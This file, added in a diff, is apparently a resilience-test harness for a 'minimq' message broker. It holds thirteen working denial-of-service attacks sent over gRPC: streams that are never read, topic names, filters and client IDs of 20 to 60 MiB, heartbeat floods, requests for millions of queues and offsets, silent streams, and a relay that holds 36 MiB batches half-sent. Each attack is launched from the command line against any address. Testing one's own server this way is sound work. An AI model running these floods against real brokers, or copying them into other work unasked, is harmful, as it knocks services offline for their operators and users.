@@ -1,0 +1,308 @@
+"""What `floods.py` does to a broker: `python flood_attacks.py NAME ADDRESS SCALE SECONDS`.
+
+Each attack is a function that makes calls as no client of ours does, and holds them until its time is over. `SCALE` is
+1 for an attack as it was found, less for a short one. Requests are made as bytes and sent by calls without types, so
+that the attacker is not what is slow.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
+from itertools import count, repeat
+from typing import Any
+
+import grpc
+
+from minimq_proto.v1 import broker_pb2, replication_pb2
+
+MIB = 1 << 20
+#: The topic that is filled before the attack with batches of this many bytes.
+TOPIC, BATCH_BYTES, BATCHES = "flooded", 4 * MIB, 24
+#: Streams of one connection: with more than the server allows, the others wait in the client.
+STREAMS_PER_CONNECTION = 50
+
+_OPTIONS = (
+    ("grpc.max_send_message_length", -1),
+    ("grpc.max_receive_message_length", -1),
+    ("grpc.use_local_subchannel_pool", 1),
+    ("grpc.enable_http_proxy", 0),
+)
+
+
+class Attacker:
+    """Connections to one broker, and how long they last.
+
+    Args:
+        address: HOST:PORT.
+        scale: part of the whole attack.
+        seconds: time that it takes.
+    """
+
+    def __init__(self, address: str, scale: float, seconds: float) -> None:
+        self.address = address
+        self.until = time.monotonic() + seconds
+        self._scale = scale
+        self._over = threading.Event()
+        self._channels: list[grpc.Channel] = []
+        threading.Timer(seconds, self._over.set).start()
+
+    def some(self, number: int) -> int:
+        """Return the part of a number that this attack wants."""
+        return max(1, round(number * self._scale))
+
+    @property
+    def is_over(self) -> bool:
+        return self._over.is_set()
+
+    def wait(self) -> None:
+        self._over.wait()
+
+    def channel(self, address: str = "") -> grpc.Channel:
+        """Return a new connection."""
+        made = grpc.insecure_channel(address or self.address, options=_OPTIONS)
+        self._channels.append(made)
+        return made
+
+    def stream(self, channel: grpc.Channel, method: str, requests: Iterator[bytes]) -> Any:  # noqa: ANN401
+        """Begin a stream; nothing of its answers is read."""
+        call: Any = channel.stream_stream(f"/minimq.v1.{method}")
+        return call(requests)
+
+    def streams(self, number: int, method: str, make: Callable[[int], Iterator[bytes]]) -> list[Any]:
+        """Begin many streams, over as many connections as they need."""
+        calls, channel = [], self.channel()
+        for index in range(number):
+            if index % STREAMS_PER_CONNECTION == STREAMS_PER_CONNECTION - 1:
+                channel = self.channel()
+            calls.append(self.stream(channel, method, make(index)))
+        return calls
+
+    def open(self, *requests: bytes) -> Iterator[bytes]:
+        """Yield requests of a stream that stays open."""
+        yield from requests
+        self.wait()
+
+    def together(self, number: int, method: str, request: bytes) -> None:
+        """Make a call many times at once, again and again."""
+        channel = self.channel()
+        call: Any = channel.unary_unary(f"/minimq.v1.{method}")
+
+        def repeated() -> None:
+            while not self.is_over:
+                try:
+                    call(request, timeout=max(0.1, self.until - time.monotonic()))
+                except grpc.RpcError:
+                    time.sleep(0.1)
+
+        with ThreadPoolExecutor(number) as pool:
+            for _ in range(number):
+                pool.submit(repeated)
+
+
+def pulls_unread(attacker: Attacker) -> None:
+    """Pull streams that nobody reads."""
+    request = broker_pb2.PullRequest(
+        pull_id=1, topic=TOPIC, queue_id=0, max_messages=1 << 40, max_bytes=1 << 40, wait_ms=60_000
+    ).SerializeToString()
+    calls = attacker.streams(attacker.some(300), "Broker/Pull", lambda _: attacker.open(request))
+    attacker.wait()
+    del calls
+
+
+def snapshots_unread(attacker: Attacker) -> None:
+    """Copies of everything that nobody reads."""
+    request = replication_pb2.ReplicaRequest(snapshot=replication_pb2.TakeSnapshot()).SerializeToString()
+    calls = attacker.streams(attacker.some(200), "Replication/Replicate", lambda _: attacker.open(request))
+    attacker.wait()
+    del calls
+
+
+def appends_refused(attacker: Attacker) -> None:
+    """Batches for topics with names of 4 MiB, on streams whose answers nobody reads."""
+    request = broker_pb2.AppendRequest(request_id=1, topic="t" * 4 * MIB, batch=b"x").SerializeToString()
+
+    def flood(_: int) -> Iterator[bytes]:
+        for one in repeat(request):
+            if attacker.is_over:
+                return
+            yield one
+
+    calls = attacker.streams(attacker.some(20), "Broker/Append", flood)
+    attacker.wait()
+    del calls
+
+
+def appends_half_sent(attacker: Attacker) -> None:
+    """Batches of 36 MiB of which all but the end is sent."""
+    number, size = attacker.some(60), 36 * MIB
+    request = broker_pb2.AppendRequest(request_id=1, topic=TOPIC, batch=os.urandom(size)).SerializeToString()
+    relay = HalfRelay(attacker.address, number * (size - MIB))
+    channel = attacker.channel(relay.address)
+    calls = [attacker.stream(channel, "Broker/Append", attacker.open(request)) for _ in range(number)]
+    attacker.wait()
+    del calls
+
+
+def topics_of_long_names(attacker: Attacker) -> None:
+    """Questions for topics with names of 60 MiB."""
+    request = broker_pb2.DescribeTopicRequest(topic="t" * 60 * MIB).SerializeToString()
+    attacker.together(attacker.some(40), "Broker/DescribeTopic", request)
+
+
+def topics_of_rather_long_names(attacker: Attacker) -> None:
+    """Questions for topics with names of 30 MiB, which the limit for a batch lets through."""
+    request = broker_pb2.DescribeTopicRequest(topic="t" * 30 * MIB).SerializeToString()
+    attacker.together(attacker.some(40), "Broker/DescribeTopic", request)
+
+
+def long_filters(attacker: Attacker) -> None:
+    """Groups with filters of 50 MiB, and of 30."""
+
+    def join(index: int) -> Iterator[bytes]:
+        text = "a" * (50 if index % 2 else 30) * MIB
+        request = broker_pb2.JoinGroup(group=f"filters-{index}", topics=[TOPIC], filters=[text], allocation="averagely")
+        yield broker_pb2.SessionRequest(client_id=f"filters-{index}", join=request).SerializeToString()
+        attacker.wait()
+
+    calls = attacker.streams(attacker.some(30), "Broker/Session", join)
+    attacker.wait()
+    del calls
+
+
+def long_client_ids(attacker: Attacker) -> None:
+    """Sessions of clients with ids of 20 MiB."""
+    text = "c" * 20 * MIB
+
+    def begin(index: int) -> Iterator[bytes]:
+        heartbeat = broker_pb2.Heartbeat(number=1)
+        yield broker_pb2.SessionRequest(client_id=f"{text}{index}", heartbeat=heartbeat).SerializeToString()
+        attacker.wait()
+
+    calls = attacker.streams(attacker.some(100), "Broker/Session", begin)
+    attacker.wait()
+    del calls
+
+
+def members_that_claim(attacker: Attacker) -> None:
+    """Members of one group that say they hold 5,000 queues each."""
+
+    def join(index: int) -> Iterator[bytes]:
+        held = [
+            broker_pb2.QueueName(topic=TOPIC, broker_name=f"broker-{index}", queue_id=number) for number in range(5000)
+        ]
+        request = broker_pb2.JoinGroup(group="claims", topics=[TOPIC], held=held, allocation="averagely")
+        yield broker_pb2.SessionRequest(client_id=f"claims-{index}", join=request).SerializeToString()
+        attacker.wait()
+
+    calls = attacker.streams(attacker.some(600), "Broker/Session", join)
+    attacker.wait()
+    del calls
+
+
+def heartbeats_unread(attacker: Attacker) -> None:
+    """Sessions that send heartbeats as fast as they can, and read no answer."""
+
+    def beat(index: int) -> Iterator[bytes]:
+        client_id = f"heart-{index}"
+        for number in count(1):
+            if attacker.is_over:
+                return
+            heartbeat = broker_pb2.Heartbeat(number=number)
+            yield broker_pb2.SessionRequest(client_id=client_id, heartbeat=heartbeat).SerializeToString()
+
+    calls = attacker.streams(attacker.some(20), "Broker/Session", beat)
+    attacker.wait()
+    del calls
+
+
+def million_queues(attacker: Attacker) -> None:
+    """One member that wants a million queues."""
+    queues = [broker_pb2.QueueEpoch(topic=TOPIC, queue_id=number % 8) for number in range(attacker.some(1_000_000))]
+    join = broker_pb2.JoinGroup(group="millions", topics=[TOPIC], allocation="averagely")
+    acquire = broker_pb2.AcquireQueues(group="millions", queues=queues)
+    requests = (
+        broker_pb2.SessionRequest(client_id="millions", join=join).SerializeToString(),
+        broker_pb2.SessionRequest(client_id="millions", acquire=acquire).SerializeToString(),
+    )
+    call = attacker.stream(attacker.channel(), "Broker/Session", attacker.open(*requests))
+    attacker.wait()
+    del call
+
+
+def million_offsets(attacker: Attacker) -> None:
+    """Commits of three million offsets each."""
+    item = broker_pb2.QueueOffset(topic=TOPIC, queue_id=0)
+    offsets = [item] * attacker.some(3_000_000)
+    request = broker_pb2.CommitOffsetsRequest(group="millions", offsets=offsets).SerializeToString()
+    attacker.together(1, "Broker/CommitOffsets", request)
+
+
+def silent_streams(attacker: Attacker) -> None:
+    """Streams of every kind on which nothing is said."""
+    number = attacker.some(400)
+    calls = [
+        attacker.streams(number, method, lambda _: attacker.open())
+        for method in ("Broker/Session", "Broker/Append", "Broker/Pull", "Replication/Replicate")
+    ]
+    attacker.wait()
+    del calls
+
+
+class HalfRelay:
+    """Passes bytes on to a server up to a number of them, then no more.
+
+    Args:
+        server: HOST:PORT.
+        most: how many.
+    """
+
+    def __init__(self, server: str, most: int) -> None:
+        host, _, port = server.rpartition(":")
+        self._server, self._most = (host, int(port)), most
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.address = f"127.0.0.1:{self._listener.getsockname()[1]}"
+        threading.Thread(target=self._run, daemon=True).start()
+
+    def _run(self) -> None:
+        client, _ = self._listener.accept()
+        server = socket.create_connection(self._server)
+        threading.Thread(target=self._pass_back, args=(server, client), daemon=True).start()
+        passed = 0
+        while passed < self._most and (data := client.recv(1 << 18)):
+            server.sendall(data)
+            passed += len(data)
+        threading.Event().wait()
+
+    def _pass_back(self, server: socket.socket, client: socket.socket) -> None:
+        while data := server.recv(1 << 16):
+            client.sendall(data)
+
+
+ATTACKS: dict[str, Callable[[Attacker], None]] = {
+    function.__name__: function
+    for function in (
+        pulls_unread,
+        snapshots_unread,
+        appends_refused,
+        appends_half_sent,
+        topics_of_long_names,
+        topics_of_rather_long_names,
+        long_filters,
+        long_client_ids,
+        members_that_claim,
+        heartbeats_unread,
+        million_queues,
+        million_offsets,
+        silent_streams,
+    )
+}
+
+if __name__ == "__main__":
+    ATTACKS[sys.argv[1]](Attacker(sys.argv[2], float(sys.argv[3]), float(sys.argv[4])))
+    os._exit(0)  # calls under way are not waited for
